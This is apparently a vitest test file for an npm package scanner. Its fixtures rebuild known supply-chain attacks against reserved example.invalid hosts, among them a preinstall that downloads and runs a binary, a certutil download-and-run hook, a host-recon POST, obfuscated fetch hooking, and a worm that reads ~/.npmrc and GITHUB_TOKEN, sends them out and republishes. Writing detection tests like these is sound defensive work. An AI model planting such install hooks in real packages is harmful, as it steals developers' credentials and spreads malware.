import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanTarball, type ScanReport } from '../../helper/src/scan/index.js';
import { packTree, tempDir, type Tree } from './support.js';

// The shapes of published npm attacks, rebuilt as inert strings aimed at reserved names (example.invalid).
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir();
});
afterAll(() => work.cleanup());

let n = 0;
async function scan(manifest: Record<string, unknown>, files: Tree = {}): Promise<ScanReport> {
  return scanTarball(await packTree(work.dir, `attack-${n++}`, manifest, files));
}
const summary = (r: ScanReport) => r.findings.map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line ?? '-'}`);

describe('scan: attack shapes', () => {
  it('a preinstall that downloads a binary, makes it executable and runs it (ua-parser-js, 2021)', async () => {
    const r = await scan({ scripts: { preinstall: 'node preinstall.js' } }, {
      'preinstall.js': [
        "const { exec } = require('child_process');",
        "exec('curl -sk https://example.invalid/bin -o ./helper-bin; chmod +x ./helper-bin; ./helper-bin -o pool.example.invalid');",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['critical code-download-exec preinstall.js:2', 'critical install-script-remote-code preinstall.js:2', 'low install-script package.json:5']);
  });

  it('a Windows download via certutil in the install hook', async () => {
    const r = await scan({ scripts: { install: 'certutil.exe -urlcache -f https://example.invalid/a.exe a.exe && a.exe' } });
    expect(summary(r)).toEqual(['critical install-script-remote-code package.json:5']);
  });

  it('a dependency-confusion probe sending host details at install time', async () => {
    const r = await scan({ scripts: { preinstall: 'node index.js' } }, {
      'index.js': [
        "const os = require('os'), https = require('https');",
        'const data = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, dir: __dirname });',
        "https.request({ hostname: 'example.invalid', method: 'POST' }).end(data);",
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['high install-script-recon index.js:2', 'high code-host-recon index.js:3', 'low install-script package.json:5']);
  });

  it('obfuscated code hooking network calls, loaded at require time (chalk/debug, 2025)', async () => {
    const ids = Array.from({ length: 150 }, (_, i) => `_0x${(0x3f00 + i).toString(16)}`);
    const body = `${ids.map((id, i) => `const ${id}=${i};`).join('')}\nconst _0xorig=window.fetch;window.fetch=function(){return _0xorig.apply(this,arguments)};fetch('https://example.invalid');\n`;
    const r = await scan({ main: 'index.js' }, { 'index.js': `module.exports = 1;\n${body}` });
    expect(summary(r)).toEqual(['high obfuscator-signature index.js:2', 'low code-network-hook index.js:3']);
  });

  it('a decoder feeding a fresh module compiled from another file (event-stream, 2018)', async () => {
    const r = await scan({ main: 'index.js' }, {
      'index.js': [
        'function d(s) { return Buffer.from(s, "hex").toString(); }',
        'var payload = require(d("2e2f746573742f64617461"));',
        'var m = new module.constructor();',
        'm.paths = module.paths; m[d(payload[7])](payload[0], ""); m.exports(payload[1]);',
      ].join('\n'),
    });
    expect(summary(r)).toEqual(['medium obfuscated-eval index.js:3']);
  });

  it('a worm bundle run at install time that steals tokens and republishes (Shai-Hulud, 2025)', async () => {
    const r = await scan({ scripts: { postinstall: 'node bundle.js' } }, {
      'bundle.js': [
        "const cp=require('child_process'),fs=require('fs'),os=require('os');",
        "const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');const gh=process.env.GITHUB_TOKEN;",
        "fetch('https://example.invalid/-/whoami',{headers:{authorization:'Bearer '+rc}});",
        "cp.execSync('npm publish --access public');",
      ].join('\n'),
    });
    expect(summary(r)).toEqual([
      'critical credential-exfil bundle.js:2',
      'critical code-exfiltration bundle.js:3',
      'critical self-propagation bundle.js:4',
      'high install-script-recon bundle.js:3',
      'medium code-worm bundle.js:4',
      'medium install-script-shell bundle.js:4',
      'low install-script package.json:5',
    ]);
  });
});
